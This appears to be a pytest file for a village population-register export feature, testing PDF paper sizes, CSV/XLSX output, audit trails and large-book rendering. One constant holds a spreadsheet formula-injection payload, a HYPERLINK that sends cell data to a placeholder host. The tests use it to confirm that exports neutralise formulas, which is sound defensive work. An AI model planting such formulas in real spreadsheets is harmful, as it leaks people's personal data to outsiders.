"""Each book as PDF (A4 or F4 landscape), CSV and XLSX: the regulation's columns, the register's
rows, formulas neutralised, and every download in the audit log and the access trail."""

from __future__ import annotations

import csv
import datetime as dt
import io
from datetime import UTC, datetime

import openpyxl
from conftest import pdf_pages, pdf_text
from reportlab.lib.units import mm

from core.audit.tables import AuditEntry
from core.localtime import local_today
from core.tenancy.resolve import village_tenant
from core.tenancy.tables import Village
from plugins.population.books import downloads, queries
from plugins.population.books.catalog import INDUK
from plugins.population.books.filters import BookFilter
from plugins.population.books.place import village_place
from plugins.population.tables import Resident

FORMULA = '=HYPERLINK("http://x/?d="&A2,"Klik")'


def _landscape(page: object) -> tuple[float, float]:
    box = [float(value) for value in page["/MediaBox"]]  # type: ignore[index]
    return round(box[2] - box[0], 1), round(box[3] - box[1], 1)


async def test_induk_pdf_prints_the_regulations_columns_and_the_rows(
    kampung, books_village
) -> None:
    village = await books_village()
    await village.resident(1, name="Siti Aminah")
    client = await kampung.login("village_secretary", village.village)

    response = await client.get(f"{village.village.url}/buku/induk.pdf")

    assert response.status_code == 200
    assert response.headers["content-type"] == "application/pdf"
    assert response.headers["content-disposition"].startswith("attachment;")
    shown = pdf_text(response.content)
    assert "B.1 BUKU INDUK PENDUDUK" in shown
    joined = " ".join(shown)
    for header in ("NAMA LENGKAP /", "DAPAT MEMBACA HURUF", "TEMPAT & TANGGAL LAHIR", "NOMOR KK"):
        assert header in joined, header
    for cell in ("Siti Aminah", "3527015405900001", "14-05-1990", "Islam", "Perempuan"):
        assert cell in shown, cell
    assert _landscape(pdf_pages(response.content)[0]) == (841.9, 595.3)


async def test_the_user_chooses_f4_paper(kampung, books_village) -> None:
    village = await books_village()
    client = await kampung.login("village_secretary", village.village)

    response = await client.get(f"{village.village.url}/buku/ktp-kk.pdf", params={"kertas": "F4"})

    width, height = _landscape(pdf_pages(response.content)[0])
    assert (width, height) == (round(330 * mm, 1), round(215 * mm, 1))
    assert "B.5 BUKU KTP DAN KK" in pdf_text(response.content)


async def test_an_unknown_paper_is_refused_by_name_and_nothing_is_downloaded(
    kampung, books_village
) -> None:
    village = await books_village()
    client = await kampung.login("village_secretary", village.village)

    response = await client.get(f"{village.village.url}/buku/induk.pdf", params={"kertas": "A3"})

    assert response.status_code == 422
    assert "Ukuran kertas harus A4 atau F4." in response.text
    assert await village.disclosures("population.book.download") == []


async def test_sementara_pdf_prints_the_newcomer_and_when_they_came(kampung, books_village) -> None:
    village = await books_village()
    arrived = local_today() - dt.timedelta(days=10)
    await village.newcomer(1, arrived, "Kota Surabaya", name="Bu Pendatang")
    client = await kampung.login("village_operator", village.village)

    response = await client.get(f"{village.village.url}/buku/sementara.pdf")

    shown = pdf_text(response.content)
    assert "B.4 BUKU PENDUDUK SEMENTARA" in shown
    assert {"Bu Pendatang", "Kota Surabaya", arrived.strftime("%d-%m-%Y"), "P"} <= set(shown)


async def test_csv_neutralises_formulas_and_keeps_whole_niks(kampung, books_village) -> None:
    village = await books_village()
    await village.resident(1, name=FORMULA)
    client = await kampung.login("village_operator", village.village)

    response = await client.get(f"{village.village.url}/buku/ktp-kk.csv")

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["Nomor urut", "Nomor KK", "Nama lengkap", "NIK"]
    assert rows[0][15:17] == ["Orang tua: Ayah", "Orang tua: Ibu"]
    assert rows[1][2] == "'" + FORMULA and rows[1][3] == "3527015405900001"


async def test_xlsx_cells_are_text_and_never_formulas(kampung, books_village) -> None:
    village = await books_village()
    await village.resident(1, name=FORMULA)
    client = await kampung.login("village_operator", village.village)

    response = await client.get(f"{village.village.url}/buku/induk.xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0].startswith("B.1 BUKU INDUK PENDUDUK")
    assert rows[2][1] == "'" + FORMULA and rows[2][13] == "3527015405900001"
    assert all(cell.data_type == "s" for cell in sheet[3] if cell.value is not None)


async def test_every_download_is_audited_and_counted_in_the_access_trail(
    kampung, books_village
) -> None:
    village = await books_village()
    await village.resident(1)
    await village.resident(2)
    client = await kampung.login("village_operator", village.village)
    base = f"{village.village.url}/buku/induk"

    for suffix in (".pdf", ".csv", ".xlsx"):
        assert (await client.get(base + suffix, params={"dusun": "Krajan"})).status_code == 200

    trail = await village.disclosures("population.book.download")
    assert [(e["query"]["format"], e["total"]) for e in trail] == [
        ("pdf", 2),
        ("csv", 2),
        ("xlsx", 2),
    ]
    assert all(e["query"]["dusun"] == "Krajan" and e["actor"] for e in trail)
    async with kampung.scope(village.village.code):
        audited = await AuditEntry.select(AuditEntry.action).where(
            (AuditEntry.village_code == village.village.code)
            & (AuditEntry.entity == "population_book")
        )
    assert [row["action"] for row in audited] == ["export"] * 3


async def test_a_ten_thousand_resident_book_is_drawn_a_chunk_at_a_time(
    kampung, books_village
) -> None:
    village = await books_village()
    code = village.village.code
    now = datetime.now(UTC)
    async with kampung.scope(code):
        for start in range(0, 10_000, 1000):
            await Resident.insert(
                *[
                    Resident(
                        village_code=code,
                        nik=f"35270141019{n:05d}",
                        name=f"WARGA {n:05d}",
                        name_key=f"warga {n:05d}",
                        sex=1 + n % 2,
                        religion=1,
                        dusun="Krajan",
                        created_at=now,
                        updated_at=now,
                    )
                    for n in range(start, start + 1000)
                ]
            )
    chunks: list[int] = []
    async with kampung.scope(code):
        tenant = village_tenant(await Village.select().where(Village.code == code).first())
        place = await village_place(kampung.kernel, tenant, now)
        heading = downloads.book_heading(INDUK, BookFilter(), place, "test")
        path = await downloads.write_pdf(
            INDUK, code, BookFilter(), heading, place.today, lambda rows: chunks.append(len(rows))
        )
    try:
        data = path.read_bytes()
    finally:
        path.unlink()

    assert sum(chunks) == 10_000 and max(chunks) == queries.CHUNK_ROWS
    last_page = pdf_text(data, last_pages=1)
    assert "10000" in last_page and "WARGA 09999" in last_page
    assert len(pdf_pages(data)) >= 10_000 // 50, "rows wrap onto new pages with their headers"
